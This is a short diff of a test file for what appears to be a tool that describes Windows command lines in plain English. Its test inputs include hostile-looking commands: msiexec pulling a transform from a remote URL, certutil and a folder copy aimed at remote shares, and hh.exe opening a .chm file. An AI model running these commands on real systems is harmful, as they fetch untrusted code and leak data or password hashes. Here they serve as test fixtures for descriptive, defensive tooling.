@@ -73,6 +73,10 @@ describe("a sentence", () => {
       /copies a folder: C:\\Users\\Public, to \\\\198\.51\.100\.7\\s\./,
     ],
     ["certutil -syncwithWU \\\\192.0.2.8\\x", /the password hash: the share \\\\192\.0\.2\.8\\x\./],
+    [
+      "msiexec /i C:\\k\\a.msi TRANSFORMS=https://h.example/a.mst",
+      /: the transform https:\S+\. It takes this transform from/,
+    ],
     ["wab.exe", /names for contacts: the registry entry HKLM/],
     ["hh.exe C:\\Users\\Public\\x.chm", /It opens this file from a folder/],
     [
